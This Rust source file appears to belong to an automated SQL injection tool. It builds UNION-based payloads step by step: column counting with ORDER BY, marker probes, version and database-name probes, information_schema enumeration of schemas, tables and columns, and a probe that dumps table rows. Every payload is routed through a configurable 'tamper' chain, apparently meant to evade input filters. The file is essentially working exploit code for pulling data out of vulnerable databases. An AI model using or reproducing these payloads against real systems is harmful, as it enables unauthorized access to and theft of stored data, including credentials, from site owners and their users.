use super::tamper::{self, Tamper};

/// Separator CONCAT_WS puts between the fields of one row (0x3a is `:`).
pub const FIELD_SEPARATOR: char = ':';
/// Separator GROUP_CONCAT puts between rows and list entries.
pub const ROW_SEPARATOR: char = ',';

/// Builds the SQL fragments for each probing step and runs them through the
/// configured tamper chain.
///
/// Database and table names are interpolated verbatim. A name containing a
/// quote breaks the generated SQL; nothing here escapes it.
#[derive(Debug, Clone)]
pub struct PayloadGenerator {
    marker: String,
    tampers: Vec<Tamper>,
}

impl PayloadGenerator {
    pub fn new(marker: impl Into<String>, tampers: Vec<Tamper>) -> Self {
        Self {
            marker: marker.into(),
            tampers,
        }
    }

    pub fn from_names(marker: impl Into<String>, names: &[String]) -> Self {
        Self::new(marker, tamper::resolve(names))
    }

    pub fn marker(&self) -> &str {
        &self.marker
    }

    pub fn apply_tamper(&self, payload: &str) -> String {
        tamper::apply_all(payload, &self.tampers)
    }

    pub fn order_by(&self, columns: usize) -> String {
        self.apply_tamper(&format!("' ORDER BY {}-- -", columns))
    }

    /// `' UNION SELECT '<marker>', 2, 3, ..., n-- -`
    pub fn union_probe(&self, columns: usize) -> String {
        let select_cols = (1..=columns)
            .map(|i| {
                if i == 1 {
                    format!("'{}'", self.marker)
                } else {
                    i.to_string()
                }
            })
            .collect::<Vec<_>>()
            .join(", ");

        self.apply_tamper(&format!("' UNION SELECT {}-- -", select_cols))
    }

    pub fn database_probe(&self) -> String {
        self.marked("database()", "")
    }

    pub fn version_probe(&self) -> String {
        self.marked("@@version", "")
    }

    pub fn schema_probe(&self) -> String {
        self.marked(
            "GROUP_CONCAT(schema_name)",
            " FROM information_schema.schemata",
        )
    }

    pub fn tables_probe(&self, database: &str) -> String {
        self.marked(
            "GROUP_CONCAT(table_name)",
            &format!(
                " FROM information_schema.tables WHERE table_schema='{}'",
                database
            ),
        )
    }

    pub fn columns_probe(&self, database: &str, table: &str) -> String {
        self.marked(
            "GROUP_CONCAT(column_name)",
            &format!(
                " FROM information_schema.columns WHERE table_schema='{}' AND table_name='{}'",
                database, table
            ),
        )
    }

    /// Rows `offset..offset + limit` of `database.table`, each rendered as its
    /// fields joined by `:` and the rows joined by `,`.
    pub fn data_probe(
        &self,
        database: &str,
        table: &str,
        columns: &[String],
        limit: usize,
        offset: usize,
    ) -> String {
        let col_list = columns.join(",");
        self.marked(
            &format!("GROUP_CONCAT(CONCAT_WS(0x3a,{}))", col_list),
            &format!(
                " FROM (SELECT {} FROM {}.{} LIMIT {} OFFSET {}) AS dump",
                col_list, database, table, limit, offset
            ),
        )
    }

    /// Single-column UNION whose value is the marker followed directly by
    /// `expr`, so the extraction side can anchor on the marker.
    fn marked(&self, expr: &str, tail: &str) -> String {
        self.apply_tamper(&format!(
            "' UNION SELECT CONCAT('{}',{}){}-- -",
            self.marker, expr, tail
        ))
    }
}
